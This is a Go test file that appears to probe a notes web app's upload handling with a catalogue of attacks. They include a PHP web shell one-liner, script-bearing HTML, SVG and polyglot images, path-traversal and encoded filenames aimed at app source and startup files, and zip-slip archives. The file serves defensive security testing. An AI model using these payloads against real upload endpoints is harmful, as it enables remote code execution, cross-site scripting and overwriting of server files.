package canon

import (
	"net/http"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"strings"

	"github.com/chromedp/chromedp"
)

const (
	phpCode  = `<?php system($_GET["c"]); ?>`
	pageCode = `<!doctype html><script>window.owned=true</script>`
	svgCode  = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>window.owned=true</script></svg>`
	script   = `window.owned=true;`
)

// uploadType are files that are a program to somebody: a web server, a browser, a visitor.
func uploadType() []Attack {
	kept := func(name, gain string, file File) Attack {
		return Attack{Name: name, Gain: gain, Works: func(s *Scene) bool { return s.givenBack(file) }}
	}
	opened := func(name string, file File) Attack {
		return Attack{Name: name, Gain: "a file runs a script as whoever opens it", Works: func(s *Scene) bool { return s.runs(file) }}
	}
	const server, visitor = "the web server runs it", "whoever opens it runs it"
	return []Attack{
		kept("x.php", server, File{Name: "x.php", Type: "application/x-php", Content: phpCode}),
		kept("x.PhP5", server, File{Name: "x.PhP5", Type: "image/png", Content: phpCode}),
		kept("x.cgi", server, File{Name: "x.cgi", Type: "text/plain", Content: "#!/bin/sh\nid\n"}),
		kept("x.exe", visitor, File{Name: "x.exe", Type: "application/octet-stream", Content: "MZ\x90\x00" + strings.Repeat("\x00", 60) + "PE\x00\x00"}),
		kept("program with the name of a picture", visitor, File{Name: "x.png", Type: "image/png", Content: "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 60)}),
		kept("page with the name of a picture", visitor, File{Name: "x.jpg", Type: "image/jpeg", Content: pageCode}),
		kept("page that begins like a picture", visitor, File{Name: "x.gif", Type: "image/gif", Content: "GIF89a" + pageCode}),
		kept("PHP that begins like a picture", server, File{Name: "x.gif", Type: "image/gif", Content: "GIF89a;" + phpCode}),
		kept("x.php.png", server, File{Name: "x.php.png", Type: "image/png", Content: phpCode}),
		kept("x.png.php", server, File{Name: "x.png.php", Type: "image/png", Content: string(png(1, 1)) + phpCode}),
		kept("picture and script in one", "the site's own origin has a script of the attacker's",
			File{Name: "x.gif", Type: "image/gif", Content: "GIF89a/*" + strings.Repeat("\x00", 20) + "*/=1;" + script}),
		{Name: "a picture called x.php.png", Gain: "a web server that looks at each ending runs what the picture says in its comment", Works: func(s *Scene) bool {
			client := s.LoggedIn(s.Join())
			answer := s.Try(client, s.Parts("/files", []File{{Name: "x.php.png", Type: "image/png", Content: string(png(1, 1, phpCode))}}))
			s.Logf("%d, then %q", answer.Status, s.files(client))
			for _, name := range s.files(client) {
				if strings.Contains(name, ".php.") {
					return true
				}
			}
			return false
		}},
		kept("true picture and script in one", "the site's own origin has a script of the attacker's",
			File{Name: "x.gif", Type: "image/gif", Content: polyglot(script)}),
		{Name: "program in the comment of a picture", App: "trusting", Gain: "whatever reads the file for programs finds one", Works: func(s *Scene) bool {
			file := File{Name: s.Home() + ".png", Type: "image/png", Content: string(png(9, 9, s.Home()+phpCode))}
			answer := s.Try(s.Client(), s.Parts("/attach/remade", []File{file}))
			s.Logf("%d %.200s", answer.Status, answer.Text)
			for _, content := range s.uploads() {
				if strings.Contains(content, s.Home()+phpCode) {
					return true
				}
			}
			return false
		}},
		opened("x.html in a browser", File{Name: "x.html", Type: "text/html", Content: pageCode}),
		opened("x.xhtml in a browser", File{Name: "x.xhtml", Type: "application/xhtml+xml",
			Content: `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>window.owned=true</script></body></html>`}),
		opened("x.svg in a browser", File{Name: "x.svg", Type: "image/svg+xml", Content: svgCode}),
		opened("x.svg that says it is a PNG, in a browser", File{Name: "x.svg", Type: "image/png", Content: svgCode}),
	}
}

var fileLink = regexp.MustCompile(`href="/files/([^"?]+)`)

// files are the names under which the notes app has the client's files.
func (s *Scene) files(client *http.Client) []string {
	s.Helper()
	var names []string
	for _, found := range fileLink.FindAllStringSubmatch(s.Get(client, "/files").Text, -1) {
		names = append(names, found[1])
	}
	return names
}

// givenBack uploads a file to the notes app and says whether it can be had from there as it
// is, under whatever name.
func (s *Scene) givenBack(file File) bool {
	s.Helper()
	p := s.Join()
	client := s.LoggedIn(p)
	file.Name = p.Name + file.Name
	answer := s.Try(client, s.Parts("/files", []File{file}))
	s.Logf("%d", answer.Status)
	for _, name := range s.files(client) {
		if s.Get(client, "/files/"+name).Text == file.Content {
			return true
		}
	}
	return false
}

// runs uploads a file and says whether a script in it runs when somebody else opens it.
func (s *Scene) runs(file File) bool {
	s.Helper()
	p := s.Join()
	client := s.LoggedIn(p)
	file.Name = p.Name + file.Name
	answer := s.Try(client, s.Parts("/files", []File{file}))
	s.Logf("%d", answer.Status)
	for _, name := range s.files(client) {
		tab := s.Tab()
		s.Login(tab, s.Join())
		// It may also be offered as a download, which ends in no page.
		if err := chromedp.Do(tab, chromedp.Navigate(s.URL+"/files/"+name)); err != nil {
			if !strings.Contains(err.Error(), "ERR_ABORTED") {
				s.Fatal(err)
			}
		} else if s.owned(tab) {
			return true
		}
	}
	return false
}

// uploads are the contents of all files that were uploaded, however they are called.
func (s *Scene) uploads() []string {
	s.Helper()
	var contents []string
	err := filepath.WalkDir(filepath.Join(s.Folder, "instance", "uploads"), func(name string, entry os.DirEntry, err error) error {
		if err != nil || !entry.Type().IsRegular() {
			return err
		}
		content, err := os.ReadFile(name)
		contents = append(contents, string(content))
		return err
	})
	if err != nil {
		s.Fatal(err)
	}
	return contents
}

// planted is the program of an attacker.
const planted = "planted = True\n"

// written says whether a file of the app's folder has that content now.
func (s *Scene) written(name, content string) bool {
	s.Helper()
	text, err := os.ReadFile(filepath.Join(s.Folder, name))
	s.Logf("%s: %.40q %v", name, text, err)
	return err == nil && string(text) == content
}

// uploadName are names that lead out of the folder for uploads, or into what the server
// reads when it starts.
func uploadName() []Attack {
	attach := func(how string, file File, target string) func(s *Scene) bool {
		return func(s *Scene) bool {
			answer := s.Try(s.Client(), s.Parts("/attach/"+how, []File{file}))
			s.Logf("%d %.200s", answer.Status, answer.Text)
			return s.written(target, file.Content)
		}
	}
	var attacks []Attack
	add := func(name string, works func(s *Scene) bool) {
		attacks = append(attacks, Attack{Name: name, App: "trusting", Gain: "the attacker's program is a part of the app", Works: works})
	}
	text := func(name string) File { return File{Name: name, Type: "text/plain", Content: planted} }
	raw := func(name string) File { return File{RawName: name, Type: "text/plain", Content: planted} }
	add("../../app.py", attach("plain", text("../../app.py"), "app.py"))
	add("x/../../../models.py", attach("plain", text("x/../../../models.py"), "models.py"))
	add("an absolute path", attach("plain", text("/proc/self/cwd/views.py"), "views.py"))
	add("backslashes", attach("slashes", raw(`filename="..\\..\\forms.py"`), "forms.py"))
	add("percent signs", attach("decoded", text("%2e%2e%2f%2e%2e%2fhelpers.py"), "helpers.py"))
	add("a name by RFC 5987", attach("plain", raw(`filename="x.txt"; filename*=UTF-8''..%2F..%2Fadmin.py`), "admin.py"))
	add("a name in pieces by RFC 2231", attach("plain", raw(`filename*0="../../"; filename*1="rules.py"`), "rules.py"))
	picture := File{Name: "../../static/favicon.png", Type: "image/png", Content: string(png(2, 2))}
	add("the site's own picture", attach("plain", picture, "static/favicon.png"))
	for _, name := range []string{
		"app.py", "__init__.py", "sitecustomize.py", "site.pth", "uwsgi.ini", "gunicorn.conf.py", "wsgi.so", ".env", ".flaskenv",
		"fumehood.toml", "pyvenv.cfg", ".htaccess", "web.config",
	} {
		add("own folder: "+name, attach("here", text(name), name))
	}
	return append(append(attacks, hiddenEndings()...), unpacked()...)
}

// hiddenEndings are names that are a program's once an app or a file system has cut the
// rest off.
func hiddenEndings() []Attack {
	var attacks []Attack
	for _, name := range []string{"x.php.", "x.php ", "x.php...", "x.php . ", "x.php::$DATA", "x.php;.png", "x.php\t.png"} {
		attacks = append(attacks, Attack{Name: "hidden ending: " + strings.ReplaceAll(name, "\t", `\t`), App: "trusting", Gain: "the web server runs it",
			Works: func(s *Scene) bool {
				answer := s.Try(s.Client(), s.Parts("/attach/plain", []File{{Name: s.Home() + name, Type: "image/png", Content: phpCode}}))
				s.Logf("%d %.200s", answer.Status, answer.Text)
				_, err := os.Stat(filepath.Join(s.Folder, "instance", "uploads", s.Home()+name))
				return err == nil
			}})
	}
	return attacks
}

// unpacked are archives that put files where they do not belong.
func unpacked() []Attack {
	var attacks []Attack
	add := func(name string, works func(s *Scene) bool) {
		attacks = append(attacks, Attack{Name: name, App: "trusting", Gain: "the attacker's program is a part of the app", Works: works})
	}
	add("archive with ../ in it", func(s *Scene) bool {
		s.unpack(archive(entry{name: "../../zipped.py", content: planted}))
		return s.written("zipped.py", planted)
	})
	add("archive with a program in it", func(s *Scene) bool {
		s.unpack(archive(entry{name: "pictures/__init__.py", content: planted}))
		return s.written("instance/uploads/pictures/__init__.py", planted)
	})
	add("archive with a link out of the folder", func(s *Scene) bool {
		s.unpack(archive(entry{name: "out", content: "../..", link: true}))
		to, err := os.Readlink(filepath.Join(s.Folder, "instance", "uploads", "out"))
		s.Logf("%q %v", to, err)
		return err == nil
	})
	return attacks
}

// unpack has the app unpack an archive.
func (s *Scene) unpack(content string) {
	s.Helper()
	answer := s.Try(s.Client(), s.Parts("/unpack/extract", []File{{Name: path.Base(s.Name()) + ".zip", Type: "application/zip", Content: content}}))
	s.Logf("%d %.200s", answer.Status, answer.Text)
}
